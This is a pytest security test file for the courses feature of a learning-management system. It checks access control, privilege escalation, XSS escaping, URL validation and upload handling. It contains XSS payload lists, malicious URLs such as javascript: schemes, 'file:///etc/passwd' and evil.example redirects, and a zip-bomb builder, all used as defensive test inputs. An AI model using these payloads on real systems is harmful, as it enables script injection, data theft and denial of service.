"""The courses feature, probed from outside: IDOR on every course route (other trainers' courses,
ids of one course in the URL of another, material URLs guessed by trainees, unit administrators
and people outside their subtree), privilege escalation (co-trainers, publishing), stored and
reflected XSS, upload attacks, formula injection in the learners export, open redirects, CSRF,
NUL bytes and huge ids, Range header abuse, and query-string fuzz.

Open vulnerabilities are asserted the safe way round and marked ``xfail(strict=True, reason="VULN: ...")``.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
import sqlalchemy as sa
from werkzeug.http import parse_options_header

from courses import services, uploads
from courses.models import (
    Course,
    CourseStatus,
    CourseTrainer,
    Enrolment,
    EnrolmentSource,
    Lesson,
    LessonProgress,
    Material,
    Section,
)
from lms.actors import SYSTEM
from lms.db import db
from lms.models import Person, Role, Unit
from lms.services import people as people_service
from quizzes.models import Quiz
from tests.conftest import TEST_PASSWORD
from tests.courses.conftest import NOW, pdf_bytes
from tests.security import csrf_token, login, world  # noqa: F401  (fixture)

HUGE = "99999999999999999999999"
EVIL = "//evil.example/x"


# -- a small catalogue on both sides of every boundary -----------------------------------------

@dataclass
class Catalogue:
    """``a``: published, owned by ``world.trainer`` (unit U), co-taught by ``co``; learners
    trainee_u, trainee_u1 (U subtree) and trainee_v (unit V). ``b``: published, owned by
    ``trainer_b`` (unit V); trainee_u enrolled, trainee_u1 withdrawn. ``draft``: trainer_b's
    draft, co-taught by ``co``, with trainee_u enrolled (a draft is still closed to them).
    ``outsider``: a trainee of V enrolled nowhere."""

    a: Course
    a_section: Section
    a_lesson: Lesson
    a_pdf: Material
    a_link: Material
    b: Course
    b_section: Section
    b_lesson: Lesson
    b_pdf: Material
    draft: Course
    draft_section: Section
    draft_lesson: Lesson
    draft_pdf: Material
    trainer_b: Person
    co: Person
    outsider: Person
    enrol_u: Enrolment
    enrol_v: Enrolment
    enrol_b_u: Enrolment
    storage: Path


def _build(owner, title, *, publish=True, pdf_name="Tài liệu.pdf", second_lesson=False):
    course = services.create_course(db.session, owner, services.CourseInput(title=title, summary=f"Tóm tắt {title}"))
    section = services.add_section(db.session, owner, course, "Phần 1")
    lesson = services.add_lesson(db.session, owner, section, services.LessonInput(title="Bài 1", body="Nội dung"), NOW)
    if second_lesson:
        services.add_lesson(db.session, owner, section, services.LessonInput(title="Bài 2", body="Nội dung 2"), NOW)
    pdf = services.add_file(db.session, owner, lesson, io.BytesIO(pdf_bytes(title)), pdf_name)
    if publish:
        services.set_status(db.session, owner, course, CourseStatus.PUBLISHED, NOW)
    return course, section, lesson, pdf


def _enrol(course, person, by):
    services.enrol_people(db.session, by, course, [person.id], EnrolmentSource.INDIVIDUAL, None, NOW)
    return db.session.scalar(sa.select(Enrolment).where(Enrolment.course_id == course.id,
                                                        Enrolment.person_id == person.id))


@pytest.fixture
def cat(app, world, make_person, tmp_path) -> Catalogue:
    trainer_b = make_person(name="Giảng Viên Hai", email="gv2@example.vn", unit=world.v, roles=("trainer",))
    co = make_person(name="Giảng Viên Cùng Dạy", email="co@example.vn", unit=world.u, roles=("trainer",))
    outsider = make_person(name="Học Viên Lạ", email="la@example.vn", unit=world.v)
    a, a_section, a_lesson, a_pdf = _build(world.trainer, "Khóa A", second_lesson=True)
    a_link = services.add_link(db.session, world.trainer, a_lesson, "https://example.org/doc", "Liên kết A")
    services.add_co_trainer(db.session, world.trainer, a, co)
    b, b_section, b_lesson, b_pdf = _build(trainer_b, "Khóa B")
    draft, draft_section, draft_lesson, draft_pdf = _build(trainer_b, "Khóa Nháp", publish=False)
    services.add_co_trainer(db.session, trainer_b, draft, co)
    enrol_u = _enrol(a, world.trainee_u, world.trainer)
    _enrol(a, world.trainee_u1, world.trainer)
    enrol_v = _enrol(a, world.trainee_v, world.trainer)
    enrol_b_u = _enrol(b, world.trainee_u, trainer_b)
    services.withdraw(db.session, trainer_b, _enrol(b, world.trainee_u1, trainer_b), NOW)
    _enrol(draft, world.trainee_u, trainer_b)
    db.session.commit()
    return Catalogue(a, a_section, a_lesson, a_pdf, a_link, b, b_section, b_lesson, b_pdf, draft, draft_section,
                     draft_lesson, draft_pdf, trainer_b, co, outsider, enrol_u, enrol_v, enrol_b_u,
                     tmp_path / "storage")


def state() -> dict:
    """Every row a course request could change, comparable."""
    db.session.expire_all()

    def rows(*columns):
        return sorted(tuple(str(v) for v in r) for r in db.session.execute(sa.select(*columns)).all())

    return {
        "courses": rows(Course.id, Course.title, Course.summary, Course.description_source, Course.status,
                        Course.owner_id, Course.self_enrol, Course.open_access, Course.credited_hours),
        "sections": rows(Section.id, Section.course_id, Section.title, Section.position),
        "lessons": rows(Lesson.id, Lesson.section_id, Lesson.course_id, Lesson.title, Lesson.body_source,
                        Lesson.position, Lesson.required, Lesson.minutes),
        "materials": rows(Material.id, Material.lesson_id, Material.title, Material.url, Material.storage_key,
                          Material.position),
        "trainers": rows(CourseTrainer.course_id, CourseTrainer.person_id),
        "enrolments": rows(Enrolment.id, Enrolment.course_id, Enrolment.person_id, Enrolment.status,
                           Enrolment.due_on),
        "progress": rows(LessonProgress.lesson_id, LessonProgress.person_id),
        "quizzes": rows(Quiz.id, Quiz.course_id, Quiz.title),
    }


def text(response) -> str:
    return response.get_data(as_text=True)


def raw_upload(client, path: str, filename: str, content: bytes, field: str = "upload-file", **fields):
    """A multipart upload with the file name exactly as a hand-written client sends it (quotes and
    backslashes escaped as RFC 7578 allows), which Werkzeug's test client does not do."""
    boundary = "----probe7d1f0c"
    escaped = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
             for k, v in fields.items()]
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="{escaped}"\r\n'
                 f"Content-Type: application/pdf\r\n\r\n".encode() + content + b"\r\n")
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return client.post(path, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _material(course_id, lesson_id, *, kind=None):
    """The materials of a lesson, newest last (``kind`` filters)."""
    db.session.expire_all()
    stmt = sa.select(Material).where(Material.lesson_id == lesson_id).order_by(Material.id)
    return [m for m in db.session.scalars(stmt) if kind is None or m.kind.value == kind]


# -- the requests every course-scoped route answers ---------------------------------------------

def requests_for(cat: Catalogue, course, section, lesson, material, *, person_id, enrolment_id,
                 attacker: Person) -> list[tuple[str, str, str, dict]]:
    """(endpoint, method, path, data) for every course-scoped route, with a payload that would
    succeed if the acting person were allowed to act."""
    c, s, le, m = course.id, section.id, lesson.id, material.id
    t = f"/courses/teaching/{c}"
    pdf = lambda: {"upload-file": (io.BytesIO(pdf_bytes("lạ")), "la.pdf"), "upload-title": "Lạ"}  # noqa: E731
    return [
        ("courses.teaching_course", "GET", t, {}),
        ("courses.teaching_edit", "GET", f"{t}/edit", {}),
        ("courses.teaching_edit", "POST", f"{t}/edit", {"title": "Bị sửa", "summary": "x", "credited_hours": "9",
                                                       "owner_id": attacker.id, "status": "archived"}),
        ("courses.teaching_status", "POST", f"{t}/status", {"status": "archived"}),
        ("courses.teaching_status", "POST", f"{t}/status", {"status": "published"}),
        ("courses.teaching_preview", "GET", f"{t}/preview", {}),
        ("courses.teaching_section_add", "POST", f"{t}/sections", {"section-title": "Phần lạ"}),
        ("courses.teaching_section_edit", "GET", f"{t}/sections/{s}/edit", {}),
        ("courses.teaching_section_edit", "POST", f"{t}/sections/{s}/edit", {"title": "Bị đổi"}),
        ("courses.teaching_section_move", "POST", f"{t}/sections/{s}/move", {"direction": "down"}),
        ("courses.teaching_section_delete", "GET", f"{t}/sections/{s}/delete", {}),
        ("courses.teaching_section_delete", "POST", f"{t}/sections/{s}/delete", {}),
        ("courses.teaching_lesson_new", "GET", f"{t}/sections/{s}/lessons/new", {}),
        ("courses.teaching_lesson_new", "POST", f"{t}/sections/{s}/lessons/new", {"title": "Bài lạ", "minutes": "5"}),
        ("courses.teaching_lesson", "GET", f"{t}/lessons/{le}", {}),
        ("courses.teaching_lesson", "POST", f"{t}/lessons/{le}", {"title": "Bị sửa", "body": "x", "minutes": "1"}),
        ("courses.teaching_lesson_move", "POST", f"{t}/lessons/{le}/move", {"direction": "down"}),
        ("courses.teaching_lesson_delete", "GET", f"{t}/lessons/{le}/delete", {}),
        ("courses.teaching_lesson_delete", "POST", f"{t}/lessons/{le}/delete", {}),
        ("courses.teaching_material_upload", "POST", f"{t}/lessons/{le}/materials/file", pdf()),
        ("courses.teaching_material_link", "POST", f"{t}/lessons/{le}/materials/link",
         {"link-url": "https://example.org/la", "link-title": "Lạ"}),
        ("courses.teaching_material_delete", "GET", f"{t}/materials/{m}/delete", {}),
        ("courses.teaching_material_delete", "POST", f"{t}/materials/{m}/delete", {}),
        ("courses.teaching_trainers", "GET", f"{t}/trainers", {}),
        ("courses.teaching_trainer_add", "POST", f"{t}/trainers", {"person_id": str(attacker.id)}),
        ("courses.teaching_trainer_remove", "POST", f"{t}/trainers/{person_id}/remove", {}),
        ("courses.enrol_people", "GET", f"/courses/{c}/learners/enrol?q=a", {}),
        ("courses.enrol_people", "POST", f"/courses/{c}/learners/enrol",
         {"mode": "people", "people-people": [str(cat.outsider.id)]}),
        ("courses.withdraw", "POST", f"/courses/{c}/enrolments/{enrolment_id}/withdraw", {}),
        ("courses.learners", "GET", f"/courses/{c}/learners", {}),
        ("courses.learners_export", "GET", f"/courses/{c}/learners.xlsx", {}),
        ("courses.learners_export_job", "POST", f"/courses/{c}/learners/export", {}),
        # the quizzes feature's page for a new quiz in a course
        ("quizzes.builder_new", "GET", f"/quizzes/course/{c}/new", {}),
        ("quizzes.builder_new", "POST", f"/quizzes/course/{c}/new",
         {"title": "Bài lạ", "attempts_allowed": "1", "grading_method": "highest", "max_mark": "10",
          "pass_mark": "5", "questions_per_page": "5", "navigation": "free", "review_score": "immediately",
          "review_answers": "immediately", "review_feedback": "immediately"}),
    ]


def _send(client, method, path, data):
    if method == "GET":
        return client.get(path)
    multipart = any(isinstance(v, tuple) for v in data.values())
    return client.post(path, data=data, content_type="multipart/form-data" if multipart else None)


COURSE_ROUTES_COVERED = {
    "courses.teaching_course", "courses.teaching_edit", "courses.teaching_status", "courses.teaching_preview",
    "courses.teaching_section_add", "courses.teaching_section_edit", "courses.teaching_section_move",
    "courses.teaching_section_delete", "courses.teaching_lesson_new", "courses.teaching_lesson",
    "courses.teaching_lesson_move", "courses.teaching_lesson_delete", "courses.teaching_material_upload",
    "courses.teaching_material_link", "courses.teaching_material_delete", "courses.teaching_trainers",
    "courses.teaching_trainer_add", "courses.teaching_trainer_remove", "courses.enrol_people", "courses.withdraw",
    "courses.learners", "courses.learners_export", "courses.learners_export_job",
    # the learner's own routes, probed in their own tests below
    "courses.course", "courses.enrol", "courses.lesson", "courses.mark_done", "courses.mark_not_done",
    "courses.material",
    "quizzes.builder_new",
}


# -- IDOR -----------------------------------------------------------------------------------------

def test_another_trainers_course_is_403_or_404_on_every_route(app, world, cat):
    """trainer_b on A (published: visible, so 403) and world.trainer on trainer_b's draft (404)."""
    # a new route with a course id must be added to the probes
    assert {r.endpoint for r in app.url_map.iter_rules() if "course_id" in r.arguments} == COURSE_ROUTES_COVERED
    before = state()
    for attacker, course, section, lesson, material, expected in (
            (cat.trainer_b, cat.a, cat.a_section, cat.a_lesson, cat.a_pdf, 403),
            (world.trainer, cat.draft, cat.draft_section, cat.draft_lesson, cat.draft_pdf, 404)):
        client = login(app, attacker.email)
        for _endpoint, method, path, data in requests_for(cat, course, section, lesson, material, person_id=cat.co.id,
                                                         enrolment_id=cat.enrol_u.id, attacker=attacker):
            response = _send(client, method, path, data)
            assert response.status_code == expected, (attacker.email, method, path, response.status_code)
    assert state() == before
    _ids_of_one_course_in_the_url_of_another_are_404(app, world, cat)


def _ids_of_one_course_in_the_url_of_another_are_404(app, world, cat):
    """trainer_b edits B: A's section, lesson, material, co-trainer and enrolment ids through B's
    URLs are not found (and nothing of A changes)."""
    client = login(app, cat.trainer_b.email)
    before = state()
    skip = {"courses.teaching_course", "courses.teaching_edit", "courses.teaching_status", "courses.teaching_preview",
            "courses.teaching_section_add", "courses.teaching_trainers", "courses.teaching_trainer_add",
            "courses.enrol_people", "courses.learners", "courses.learners_export",
            "courses.learners_export_job", "quizzes.builder_new"}  # no second id
    checked = 0
    for endpoint, method, path, data in requests_for(cat, cat.b, cat.a_section, cat.a_lesson, cat.a_pdf,
                                                     person_id=cat.co.id, enrolment_id=cat.enrol_u.id,
                                                     attacker=cat.trainer_b):
        if endpoint in skip:
            continue
        response = _send(client, method, path, data)
        assert response.status_code == 404, (method, path, response.status_code)
        checked += 1
    assert checked >= 18
    # the learner's routes: trainee_u is enrolled in both A and B, and still cannot cross them
    learner = login(app, world.trainee_u.email)
    for method, path in (("GET", f"/courses/{cat.b.id}/lessons/{cat.a_lesson.id}"),
                         ("POST", f"/courses/{cat.b.id}/lessons/{cat.a_lesson.id}/done"),
                         ("POST", f"/courses/{cat.b.id}/lessons/{cat.a_lesson.id}/undone"),
                         ("GET", f"/courses/{cat.b.id}/materials/{cat.a_pdf.id}"),
                         ("GET", f"/courses/{cat.a.id}/materials/{cat.b_pdf.id}"),
                         ("GET", f"/courses/{cat.a.id}/materials/{cat.draft_pdf.id}"),
                         ("GET", f"/courses/{cat.a.id}/lessons/{cat.draft_lesson.id}")):
        assert learner.open(path, method=method).status_code == 404, path
    assert state() == before


def test_trainees_cannot_open_materials_of_courses_they_do_not_learn(app, world, cat):
    all_materials = [(cat.a, cat.a_pdf), (cat.b, cat.b_pdf), (cat.draft, cat.draft_pdf)]
    # the outsider is enrolled nowhere: every material id under every course id is "not found"
    outsider = login(app, cat.outsider.email)
    for course in (cat.a, cat.b, cat.draft):
        for material_id in range(1, max(m.id for _, m in all_materials) + 3):
            response = outsider.get(f"/courses/{course.id}/materials/{material_id}")
            assert response.status_code == 404, (course.id, material_id)
            assert not response.data.startswith(b"%PDF")
    assert outsider.get(f"/courses/{cat.draft.id}").status_code == 404
    assert outsider.get(f"/courses/{cat.draft.id}/lessons/{cat.draft_lesson.id}").status_code == 404
    assert outsider.get(f"/courses/{cat.b.id}/lessons/{cat.b_lesson.id}").status_code == 403
    # enrolled in a draft: closed until it is published
    enrolled = login(app, world.trainee_u.email)
    assert enrolled.get(f"/courses/{cat.a.id}/materials/{cat.a_pdf.id}").status_code == 200  # (control)
    assert enrolled.get(f"/courses/{cat.draft.id}/materials/{cat.draft_pdf.id}").status_code == 404
    assert enrolled.get(f"/courses/{cat.draft.id}/lessons/{cat.draft_lesson.id}").status_code == 404
    # withdrawn from B: the material is gone for them
    withdrawn = login(app, world.trainee_u1.email)
    assert withdrawn.get(f"/courses/{cat.b.id}/materials/{cat.b_pdf.id}").status_code == 404
    assert withdrawn.get(f"/courses/{cat.b.id}/lessons/{cat.b_lesson.id}").status_code == 403
    # a link material is never served as a file
    assert enrolled.get(f"/courses/{cat.a.id}/materials/{cat.a_link.id}").status_code == 404


def test_trainees_cannot_use_authoring_enrolment_or_reference_routes(app, world, cat):
    before = state()
    client = login(app, cat.outsider.email)
    for path in ("/courses/teaching", "/courses/teaching/new", "/courses/reference",
                 "/courses/reference/conventions/1", "/courses/reference/contents/1"):
        assert client.get(path).status_code == 403, path
    for path, data in (("/courses/teaching/new", {"title": "Khóa của học viên"}),
                       ("/courses/reference/conventions/1", {"name_vi": "x", "name_en": "x", "adopted_year": "1966",
                                                            "vn_party_year": "1982"}),
                       ("/courses/reference/contents/1", {"name_vi": "x", "name_en": "x"})):
        assert client.post(path, data=data).status_code == 403, path
    for _endpoint, method, path, data in requests_for(cat, cat.a, cat.a_section, cat.a_lesson, cat.a_pdf,
                                                     person_id=cat.co.id, enrolment_id=cat.enrol_v.id,
                                                     attacker=cat.outsider):
        assert _send(client, method, path, data).status_code == 403, (method, path)
    # an enrolled learner is no better placed
    learner = login(app, world.trainee_u.email)
    for _endpoint, method, path, data in requests_for(cat, cat.a, cat.a_section, cat.a_lesson, cat.a_pdf,
                                                     person_id=cat.co.id, enrolment_id=cat.enrol_v.id,
                                                     attacker=world.trainee_u):
        assert _send(client=learner, method=method, path=path, data=data).status_code == 403, (method, path)
    assert state() == before


def test_unit_administrator_sees_withdraws_and_exports_only_their_subtree(app, world, cat):
    client = login(app, world.ua.email)
    before = state()
    outsider_v = world.trainee_v
    # the list and the export, with every filter that could widen them
    for query in ("", f"?unit={world.v.id}", f"?unit={world.root.id}&q=Ngoai", f"?unit={HUGE}&status=active"):
        page = client.get(f"/courses/{cat.a.id}/learners{query}")
        assert page.status_code == 200, query
        assert outsider_v.full_name not in text(page) and outsider_v.email not in text(page), query
        export = client.get(f"/courses/{cat.a.id}/learners.xlsx{query}")
        assert export.status_code == 200, query
        cells = _xlsx_strings(export.data)
        assert outsider_v.email not in cells and outsider_v.full_name not in cells, query
    assert world.trainee_u.email in text(client.get(f"/courses/{cat.a.id}/learners"))  # (control)
    # withdrawing someone outside the subtree, or an enrolment of another course through A's URL
    assert client.post(f"/courses/{cat.a.id}/enrolments/{cat.enrol_v.id}/withdraw").status_code == 404
    assert client.post(f"/courses/{cat.a.id}/enrolments/{cat.enrol_b_u.id}/withdraw").status_code == 404
    assert client.post(f"/courses/{cat.b.id}/enrolments/{cat.enrol_u.id}/withdraw").status_code == 404
    # enrolling people outside the subtree, by id, by unit, by file; searching for them
    assert client.post(f"/courses/{cat.a.id}/learners/enrol", data={
        "mode": "people", "people-people": [str(cat.outsider.id), str(world.admin.id)]}).status_code == 422
    assert client.post(f"/courses/{cat.a.id}/learners/enrol",
                       data={"mode": "unit", "unit-unit": str(world.v.id)}).status_code == 422
    csv = f"Thư điện tử\r\n{cat.outsider.email}\r\n".encode()
    assert client.post(f"/courses/{cat.a.id}/learners/enrol", content_type="multipart/form-data", data={
        "mode": "file", "file-file": (io.BytesIO(csv), "ds.csv")}).status_code == 422
    search = text(client.get(f"/courses/{cat.a.id}/learners/enrol?q=Hoc+Vien+La"))
    assert cat.outsider.email not in search
    # a draft is not theirs to see at all
    for path in (f"/courses/{cat.draft.id}/learners", f"/courses/{cat.draft.id}/learners.xlsx",
                 f"/courses/{cat.draft.id}/learners/enrol"):
        assert client.get(path).status_code == 404, path
    assert state() == before


# -- privilege escalation -----------------------------------------------------------------------

def test_co_trainer_cannot_remove_the_owner_or_invite_non_trainers(app, world, cat, make_person):
    locked = make_person(name="Giảng Viên Nghỉ", email="nghi@example.vn", roles=("trainer",))
    locked.active = False
    db.session.commit()
    before = state()
    co = login(app, cat.co.email)
    t = f"/courses/teaching/{cat.a.id}"
    assert co.post(f"{t}/trainers/{world.trainer.id}/remove").status_code == 404
    for person in (world.trainee_u, world.ua, locked):
        assert co.post(f"{t}/trainers", data={"person_id": str(person.id)}).status_code == 422, person.email
    for raw in (HUGE, "-1", "0", "1e3", "abc", str(2**31), "٣"):
        assert co.post(f"{t}/trainers", data={"person_id": raw}).status_code == 422, raw
    # the course form has no owner, no status: extra fields are ignored
    response = co.post(f"{t}/edit", data={"title": "Khóa A", "summary": "Tóm tắt Khóa A", "credited_hours": "2",
                                          "owner_id": str(cat.co.id), "status": "archived", "published_at": ""})
    assert response.status_code == 302
    db.session.expire_all()
    course = db.session.get(Course, cat.a.id)
    assert course.owner_id == world.trainer.id and course.status == CourseStatus.PUBLISHED
    # a trainer who is not on the course cannot add themselves; a trainee cannot either
    assert login(app, cat.trainer_b.email).post(f"{t}/trainers",
                                                data={"person_id": str(cat.trainer_b.id)}).status_code == 403
    assert login(app, world.trainee_u.email).post(f"{t}/trainers",
                                                  data={"person_id": str(world.trainee_u.id)}).status_code == 403
    after = state()
    after["courses"], before["courses"] = [], []  # (the edit above is allowed and touched updated fields)
    assert after == before
    # publishing, archiving or withdrawing a course needs the right to edit it
    before = state()
    for who, course, status, expected in (
            (world.trainee_u, cat.draft, "published", 403), (world.trainee_u, cat.a, "archived", 403),
            (cat.trainer_b, cat.a, "archived", 403), (world.trainer, cat.draft, "published", 404),
            (world.ua, cat.a, "draft", 403), (world.ua, cat.draft, "published", 403)):
        response = login(app, who.email).post(f"/courses/teaching/{course.id}/status", data={"status": status})
        assert response.status_code == expected, (who.email, course.title, status)
    assert state() == before


def test_revoked_trainer_loses_access_to_drafts_they_co_taught(app, world, cat):
    """Regression (open at 9d67420): ``_editor`` ignored the trainer role, so an owner or co-trainer
    whose role was revoked kept reading drafts and downloading their files. If this fails again,
    mark it ``xfail(strict=True, reason="VULN: ...")`` until fixed."""
    assignment = next(r for r in cat.co.roles if r.role == Role.TRAINER)
    people_service.revoke_role(db.session, SYSTEM, cat.co, assignment)
    db.session.commit()
    client = login(app, cat.co.email)
    assert client.get(f"/courses/teaching/{cat.draft.id}").status_code == 403  # authoring is closed...
    # ... and so must be the draft itself and its files
    assert client.get(f"/courses/{cat.draft.id}").status_code == 404
    assert client.get(f"/courses/{cat.draft.id}/lessons/{cat.draft_lesson.id}").status_code == 404
    assert client.get(f"/courses/{cat.draft.id}/materials/{cat.draft_pdf.id}").status_code == 404


# -- stored and reflected XSS -------------------------------------------------------------------

TITLE = '<script>alert("T")</script>"><img src=x onerror=alert(1)>'
MARKDOWN = "\n\n".join([
    "<script>alert(1)</script>", "<img src=x onerror=alert(2)>", '<a href="javascript:alert(3)">a</a>',
    "[j](javascript:alert(4))", "[J](JaVaScRiPt:alert(5))", "[t](java\tscript:alert(6))",
    "[e](&#106;avascript:alert(7))", "[v](vbscript:msgbox(8))",
    "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoOSk+)",
    "[h](data:text/html,<script>alert(10)</script>)", "<javascript:alert(11)>", "[r]: javascript:alert(12)\n\n[ref][r]",
    '<iframe src="https://evil.example"></iframe>', "<svg onload=alert(13)>", "<style>*{display:none}</style>",
    '<div style="background:url(javascript:alert(14))">s</div>',
    '[ok](https://example.org "x\\" onmouseover=\\"alert(15)")',
    '<form action="https://evil.example"><input name=p></form>', "<object data=x.swf></object>",
    "<details open ontoggle=alert(16)>", '<math><mi xlink:href="javascript:alert(17)">m</mi></math>',
])
FORBIDDEN_TAGS = {"iframe", "svg", "object", "embed", "math", "details", "base", "style", "frame", "frameset",
                  "applet", "form action"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "background", "srcset"}


class _Inspector(HTMLParser):
    """Everything on a page that would run: event handlers, script URLs, inline scripts, foreign tags."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.urls: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS or (tag == "meta" and "http-equiv" in dict(attrs)) \
                or (tag == "link" and not _local(dict(attrs).get("href") or "")) \
                or (tag == "form" and urlsplit(dict(attrs).get("action") or "").netloc):
            self.found.append(f"<{tag}>")
        if tag == "img" and (dict(attrs).get("src") or "") in ("x", ""):
            self.found.append("<img src=x>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES and value:
                self.urls.append(value)
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                if scheme.startswith(("javascript:", "vbscript:", "data:", "livescript:")):
                    self.found.append(f"<{tag} {name}={value[:40]}>")
            if name == "style" and "url(" in (value or "").lower():
                self.found.append(f"<{tag} style={value[:40]}>")
        self._script = tag == "script" and not dict(attrs).get("src")

    def handle_endtag(self, tag):
        self._script = False

    def handle_data(self, data):
        if self._script and data.strip():
            self.found.append(f"inline script {data[:40]!r}")


def _assert_inert(html: str, where: str) -> None:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    assert not inspector.found, (where, inspector.found)


def test_markup_in_course_texts_is_inert_on_every_page(app, world, cat):
    owner = login(app, world.trainer.email)
    response = owner.post("/courses/teaching/new", data={"title": TITLE, "summary": TITLE, "description": MARKDOWN,
                                                         "credited_hours": "1", "self_enrol": "y"},
                          follow_redirects=True)
    assert response.status_code == 200
    _assert_inert(text(response), "flash after create")
    course = db.session.scalar(sa.select(Course).order_by(Course.id.desc()))
    t = f"/courses/teaching/{course.id}"
    _assert_inert(text(owner.post(f"{t}/sections", data={"section-title": TITLE}, follow_redirects=True)), "section")
    section = db.session.scalar(sa.select(Section).where(Section.course_id == course.id))
    response = owner.post(f"{t}/sections/{section.id}/lessons/new", data={"title": TITLE, "body": MARKDOWN,
                                                                          "minutes": "5"}, follow_redirects=True)
    _assert_inert(text(response), "lesson")
    lesson = db.session.scalar(sa.select(Lesson).where(Lesson.course_id == course.id))
    response = raw_upload(owner, f"{t}/lessons/{lesson.id}/materials/file", '"><img src=x onerror=alert(20)>.pdf',
                          pdf_bytes())
    assert response.status_code == 302
    assert _material(course.id, lesson.id)[0].original_name == '"><img src=x onerror=alert(20)>.pdf'
    _assert_inert(text(owner.get(response.location)), "upload flash")
    response = owner.post(f"{t}/lessons/{lesson.id}/materials/link", data={
        "link-url": 'https://example.org/?q="><script>alert(21)</script>', "link-title": TITLE}, follow_redirects=True)
    _assert_inert(text(response), "link flash")
    assert len(_material(course.id, lesson.id)) == 2
    stored = db.session.get(Lesson, lesson.id).body_html + db.session.get(Course, course.id).description_html
    _assert_inert(stored, "stored HTML")
    inspector = _Inspector()
    inspector.feed(stored)
    assert set(inspector.urls) == {"https://example.org"}, inspector.urls  # only the https link survives
    assert owner.post(f"{t}/status", data={"status": "published"}).status_code == 302
    _enrol(db.session.get(Course, course.id), world.trainee_u, world.trainer)
    db.session.commit()
    material = _material(course.id, lesson.id, kind="file")[0]
    # people's and units' names reach the course screens too (the learners list, the enrolment search)
    db.session.execute(sa.update(Person).where(Person.id == world.trainee_u.id).values(
        full_name='<img src=x onerror=alert(30)>Hoc', search_text="hoc img"))
    db.session.execute(sa.update(Unit).where(Unit.id == world.u.id).values(name="<svg onload=alert(31)>"))
    db.session.commit()
    pages = ["/courses/teaching", t, f"{t}/edit", f"{t}/preview", f"{t}/lessons/{lesson.id}", f"{t}/trainers?q=x",
             f"{t}/sections/{section.id}/edit", f"{t}/sections/{section.id}/delete", f"{t}/lessons/{lesson.id}/delete",
             f"{t}/materials/{material.id}/delete", f"/courses/{course.id}/learners",
             f"/courses/{course.id}/learners/enrol?q=Hoc", f"/courses/{course.id}"]
    for page in pages:
        response = owner.get(page)
        assert response.status_code == 200, page
        _assert_inert(text(response), page)
    for page in (f"/courses/{course.id}/learners", f"/courses/{course.id}/learners/enrol?q=Hoc"):
        assert "&lt;img src=x onerror=alert(30)&gt;" in text(owner.get(page)), page  # (shown, escaped)
    learner = login(app, world.trainee_u.email)
    for page in ("/courses/", "/courses/?q=script", f"/courses/{course.id}",
                 f"/courses/{course.id}/lessons/{lesson.id}", "/courses/my"):
        response = learner.get(page)
        assert response.status_code == 200, page
        _assert_inert(text(response), page)
    response = learner.post(f"/courses/{course.id}/lessons/{lesson.id}/done", follow_redirects=True)
    _assert_inert(text(response), "flash after done")
    # the export's file name carries the title: one header line, quotes escaped
    export = owner.get(f"/courses/{course.id}/learners.xlsx")
    disposition = export.headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition and "<" not in parse_options_header(disposition)[1].get(
        "filename", "")


BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd", "//evil.example/x", "http:evil.example", "https:javascript:alert(1)", "/courses/my",
    "ftp://example.org/x", "https://", "http:///x", "mailto:a@example.org", "\u202ejavascript:alert(1)",
    "https://example.org/" + "a" * 2100,
]


def _link_materials_take_only_http_urls(app, world, cat):
    client = login(app, world.trainer.email)
    path = f"/courses/teaching/{cat.a.id}/lessons/{cat.a_lesson.id}/materials/link"
    before = state()
    for url in BAD_URLS:
        response = client.post(path, data={"link-url": url, "link-title": "Liên kết"})
        assert response.status_code in (400, 422), (url, response.status_code)  # (400: a control character)
    assert state() == before
    assert client.post(path, data={"link-url": "https://example.org/ok", "link-title": "Được"}).status_code == 302


REFLECTED = ['"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>",
             "{{7*7}}", "%3Cscript%3E"]


def test_query_strings_are_escaped_and_links_take_only_http_urls(app, world, cat):
    _link_materials_take_only_http_urls(app, world, cat)
    client = login(app, world.trainer.email)
    for raw in REFLECTED:
        q = quote(raw, safe="")
        for path in (f"/courses/?q={q}", f"/courses/?q={q}&convention={q}&audience={q}&content={q}",
                     f"/courses/{cat.a.id}/learners?q={q}&status={q}", f"/courses/{cat.a.id}/learners/enrol?q={q}",
                     f"/courses/teaching/{cat.a.id}/trainers?q={q}", f"/courses/teaching?status={q}"):
            response = client.get(path)
            assert response.status_code == 200, path
            body = text(response)
            _assert_inert(body, path)
            assert "<script>alert(1)" not in body and "</textarea><svg" not in body, path


# -- uploads --------------------------------------------------------------------------------------

def _docx(extra: dict | None = None, *, content_types=True) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if content_types:
            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        archive.writestr("word/document.xml", '<?xml version="1.0"?><document/>')
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _lying_zip_bomb() -> bytes:
    """A tiny .docx whose central directory claims 4 GiB once unpacked."""
    data = bytearray(_docx({"word/media/huge.bin": b"0" * 1000}))
    at = data.rfind(b"PK\x01\x02")  # the last central directory entry: huge.bin
    data[at + 24:at + 28] = struct.pack("<I", 0xFFFFFFF0)
